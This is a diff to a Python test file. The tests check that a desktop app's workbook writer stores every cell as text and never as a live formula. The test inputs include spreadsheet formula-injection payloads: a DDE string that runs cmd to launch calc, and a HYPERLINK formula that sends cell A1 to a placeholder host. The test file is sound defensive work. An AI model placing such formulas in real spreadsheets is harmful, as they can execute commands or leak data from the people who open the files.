@@ -1,10 +1,18 @@
+import re
+
 import openpyxl
 import pytest
 
 from desktop_app.errors import Cancelled, UserError
 from desktop_app.exchange.workbook import write_workbook
 
+ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")
 HEADINGS = ["Código", "Título"]
+
+
+def unescaped(text):
+    """Read a text as spreadsheets do (ECMA-376, ST_Xstring)."""
+    return ESCAPED.sub(lambda found: chr(int(found[1], 16)), text)
 
 
 def read(path):
@@ -23,14 +31,36 @@ def test_a_table_comes_back_as_it_was_written(tmp_path):
     assert read(path)[1] == [("BO-1", "s"), ("Gestión hídrica, ñandú", "s")]
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "#N/A", "1e5", "_x0041_"])
-def test_nothing_is_taken_for_a_formula(tmp_path, text):
+@pytest.mark.case("X4")
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            "=1+1",
+            "+1",
+            "-1",
+            "-0",
+            "@SUM(A1)",
+            "\t=1",
+            "\n=1",
+            "#N/A",
+            "#REF!",
+            "1e5",
+            "TRUE",
+            "007",
+        ),
+        *("=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("http://h/?"&A1)'),
+        *("_x0041_", "_x000D_", "a_x005F_x0041_", "__x0041__", "_x41_", "2024-03-15", "'=1", "'"),
+        *(" spaces  kept ", "<b>&amp;</b>", "]]>", "\u2028", "1.234,56"),
+    ],
+)
+def test_every_cell_is_a_text_and_reads_back_as_it_was(tmp_path, text):
     path = tmp_path / "list.xlsx"
     write_workbook(path, "Lista", ["A"], [[text]])
     ((value, form),) = read(path)[1]
 
     assert form == "s"
-    assert value in (text, "A")  # “_x0041_” is how a workbook writes the letter A
+    assert unescaped(value) == text
 
 
 def test_a_title_with_marks_no_sheet_takes_is_mended(tmp_path):
